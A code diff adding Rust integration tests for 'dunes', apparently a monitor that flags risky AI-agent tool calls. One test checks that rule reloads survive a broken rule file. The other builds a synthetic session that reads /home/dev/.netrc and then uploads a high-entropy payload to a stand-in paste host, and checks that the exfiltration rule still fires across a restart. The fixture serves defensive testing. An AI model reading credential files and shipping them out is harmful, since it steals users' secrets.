@@ -532,3 +532,278 @@ fn demo_prints_incidents_and_exits_with_no_serve() {
     assert!(stdout.contains("incidents (level 1:"), "{stdout}");
     run_ok(dunes().arg("verify").arg(tmp.path().join("demo")));
 }
+
+fn copy_dir(from: &Path, to: &Path) {
+    std::fs::create_dir_all(to).expect("mkdir");
+    for e in std::fs::read_dir(from).expect("read_dir") {
+        let p = e.expect("entry").path();
+        let dest = to.join(p.file_name().expect("name"));
+        if p.is_dir() {
+            copy_dir(&p, &dest);
+        } else {
+            std::fs::copy(&p, &dest).expect("copy");
+        }
+    }
+}
+
+/// An agent that hands back 4xx/5xx responses instead of errors.
+fn agent() -> ureq::Agent {
+    ureq::Agent::config_builder()
+        .http_status_as_error(false)
+        .build()
+        .into()
+}
+
+fn post_reload(base: &str) -> (u16, Value) {
+    let mut resp = agent()
+        .post(&format!("{base}/api/v1/rules/reload"))
+        .send_empty()
+        .expect("reload request");
+    let status = resp.status().as_u16();
+    (status, resp.body_mut().read_json().expect("json body"))
+}
+
+#[test]
+fn rules_hot_reload_over_http_refuses_a_broken_rule_and_keeps_detecting() {
+    let tmp = tempfile::tempdir().expect("tmp");
+    let dir = tmp.path().join("data");
+    let rules = tmp.path().join("rules");
+    copy_dir(
+        &PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("rules"),
+        &rules,
+    );
+    let port = free_port();
+    let mut child = dunes()
+        .arg("run")
+        .arg("--rules")
+        .arg(&rules)
+        .arg("--data-dir")
+        .arg(&dir)
+        .arg("--listen")
+        .arg(format!("127.0.0.1:{port}"))
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("spawn");
+    let base = format!("http://127.0.0.1:{port}");
+    wait_healthy(&base);
+
+    // An unchanged directory reloads fine and changes nothing.
+    let (status, ack) = post_reload(&base);
+    assert_eq!(status, 200, "{ack}");
+    assert_eq!(ack["changed"], false, "{ack}");
+    let version = ack["version"].as_str().expect("version").to_string();
+
+    // Break the rule that catches the attack below.
+    let file = rules.join("secrets/secret-in-tool-args.yaml");
+    let good = std::fs::read_to_string(&file).expect("rule");
+    std::fs::write(
+        &file,
+        good.replacen("query: |", "query: [unclosed\n  x: |", 1),
+    )
+    .expect("break");
+    let (status, body) = post_reload(&base);
+    assert_eq!(status, 422, "{body}");
+    let err = body["error"].as_str().expect("error").to_string();
+    let at = err
+        .find("secret-in-tool-args.yaml:")
+        .unwrap_or_else(|| panic!("error does not name the file: {err}"));
+    let after = &err[at + "secret-in-tool-args.yaml:".len()..];
+    assert!(
+        after.starts_with(|c: char| c.is_ascii_digit()),
+        "error does not name the line: {err}"
+    );
+
+    // The previous rules keep running.
+    let labels = labels();
+    let text = std::fs::read_to_string(sample()).expect("sample");
+    let session = text
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .filter_map(|v| v["session_id"].as_str().map(str::to_string))
+        .find(|s| labels.get(s).map(String::as_str) == Some("secrets_in_args"))
+        .expect("a secrets session");
+    let body: String = text
+        .lines()
+        .filter(|l| l.contains(&session))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    let mut resp = ureq::post(&format!("{base}/v1/ingest"))
+        .send(body.as_bytes())
+        .expect("ingest");
+    let ack: Value = resp.body_mut().read_json().expect("ack");
+    assert!(ack["incidents"].as_u64().expect("incidents") > 0, "{ack}");
+    let mut resp = ureq::get(&format!("{base}/api/v1/incidents"))
+        .call()
+        .expect("list");
+    let list: Value = resp.body_mut().read_json().expect("json");
+    assert!(
+        list["incidents"]
+            .as_array()
+            .expect("array")
+            .iter()
+            .any(|i| i["rule_id"] == "secret-in-tool-args" && i["session_id"] == session.as_str()),
+        "{list}"
+    );
+
+    // Fixed (and reworded): reload succeeds with a new version.
+    std::fs::write(&file, good.replacen("title: ", "title: (v2) ", 1)).expect("fix");
+    let (status, ack) = post_reload(&base);
+    assert_eq!(status, 200, "{ack}");
+    assert_ne!(ack["version"].as_str(), Some(version.as_str()), "{ack}");
+    assert!(ack["rules"].as_u64().expect("rules") > 20, "{ack}");
+
+    let st = Command::new("kill")
+        .args(["-TERM", &child.id().to_string()])
+        .status()
+        .expect("kill");
+    assert!(st.success());
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        if let Some(status) = child.try_wait().expect("wait") {
+            assert!(status.success(), "dunes exited with {status}");
+            break;
+        }
+        assert!(Instant::now() < deadline, "dunes did not stop on SIGTERM");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    run_ok(dunes().arg("verify").arg(&dir));
+}
+
+/// A session that reads a credential file then ships a large high-entropy
+/// payload 2 minutes later (sequence rule), and a session flooding 61
+/// calls in 30 s (threshold rule), split in two halves mid-sequence and
+/// mid-window.
+fn restart_traffic() -> (String, String) {
+    let env = |id: &str, ts: &str, session: &str, n: usize, tool: &str, args: Value| {
+        serde_json::json!({
+            "ts": ts, "event_id": id, "server_id": "svc-r", "direction": "c2s",
+            "session_id": session,
+            "message": {"jsonrpc": "2.0", "id": n, "method": "tools/call",
+                        "params": {"name": tool, "arguments": args}}
+        })
+        .to_string()
+    };
+    // Uniform base64-alphabet text: ~6 bits/char.
+    const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
+    let payload: String = (0..1700)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            B64[(x % 64) as usize] as char
+        })
+        .collect();
+    let mut part1 = vec![env(
+        "rs-cred",
+        "2026-11-20T08:00:00Z",
+        "rs-exfil",
+        1,
+        "open_file",
+        serde_json::json!({"path": "/home/dev/.netrc"}),
+    )];
+    let mut part2 = Vec::new();
+    for i in 0..61 {
+        let line = env(
+            &format!("rs-flood-{i}"),
+            &format!("2026-11-20T08:00:{:02}.{:03}Z", i / 2, (i % 2) * 500),
+            "rs-flood",
+            i + 1,
+            "lookup",
+            serde_json::json!({"q": format!("item {i}")}),
+        );
+        if i < 30 {
+            part1.push(line)
+        } else {
+            part2.push(line)
+        }
+    }
+    part2.push(env(
+        "rs-egress",
+        "2026-11-20T08:02:00Z",
+        "rs-exfil",
+        2,
+        "upload",
+        serde_json::json!({"dest": "https://paste.example.net/new", "content": payload}),
+    ));
+    let join = |v: Vec<String>| v.into_iter().map(|l| format!("{l}\n")).collect::<String>();
+    (join(part1), join(part2))
+}
+
+/// (rule, session) of every incident and the incident ids, newest line wins.
+fn incident_summary(dir: &Path) -> (BTreeSet<(String, String)>, BTreeMap<String, Value>) {
+    let mut pairs = BTreeSet::new();
+    let mut by_id = BTreeMap::new();
+    for inc in read_ndjson(&dir.join("incidents.ndjson")) {
+        pairs.insert((
+            inc["rule_id"].as_str().expect("rule").to_string(),
+            inc["session_id"].as_str().unwrap_or("-").to_string(),
+        ));
+        by_id.insert(
+            inc["incident_id"].as_str().expect("id").to_string(),
+            serde_json::json!({"rule": inc["rule_id"], "event_ids": inc["event_ids"]}),
+        );
+    }
+    (pairs, by_id)
+}
+
+#[test]
+fn restart_mid_window_and_mid_sequence_fires_as_in_one_process() {
+    let tmp = tempfile::tempdir().expect("tmp");
+    let (p1, p2) = restart_traffic();
+    let part1 = tmp.path().join("part1.ndjson");
+    let part2 = tmp.path().join("part2.ndjson");
+    let both = tmp.path().join("both.ndjson");
+    std::fs::write(&part1, &p1).expect("w");
+    std::fs::write(&part2, &p2).expect("w");
+    std::fs::write(&both, format!("{p1}{p2}")).expect("w");
+
+    let one = tmp.path().join("one");
+    run_ok(dunes().arg("replay").arg(&both).arg("--data-dir").arg(&one));
+    let two = tmp.path().join("two");
+    run_ok(
+        dunes()
+            .arg("replay")
+            .arg(&part1)
+            .arg("--data-dir")
+            .arg(&two),
+    );
+    let (after_first, _) = incident_summary(&two);
+    assert!(
+        !after_first
+            .iter()
+            .any(|(r, _)| r == "credential-read-then-egress" || r == "call-flood-rate"),
+        "stateful rules fired on half the traffic: {after_first:?}"
+    );
+    run_ok(
+        dunes()
+            .arg("replay")
+            .arg(&part2)
+            .arg("--data-dir")
+            .arg(&two),
+    );
+
+    let (pairs_one, ids_one) = incident_summary(&one);
+    let (pairs_two, ids_two) = incident_summary(&two);
+    for want in [
+        ("credential-read-then-egress", "rs-exfil"),
+        ("call-flood-rate", "rs-flood"),
+    ] {
+        assert!(
+            pairs_one.contains(&(want.0.to_string(), want.1.to_string())),
+            "{want:?} not raised in one process: {pairs_one:?}"
+        );
+    }
+    assert_eq!(pairs_one, pairs_two);
+    // The sequence incident is the same incident (id and events).
+    let seq = |m: &BTreeMap<String, Value>| {
+        m.iter()
+            .filter(|(_, v)| v["rule"] == "credential-read-then-egress")
+            .map(|(k, v)| (k.clone(), v.clone()))
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(seq(&ids_one), seq(&ids_two));
+    run_ok(dunes().arg("verify").arg(&one));
+    run_ok(dunes().arg("verify").arg(&two));
+}
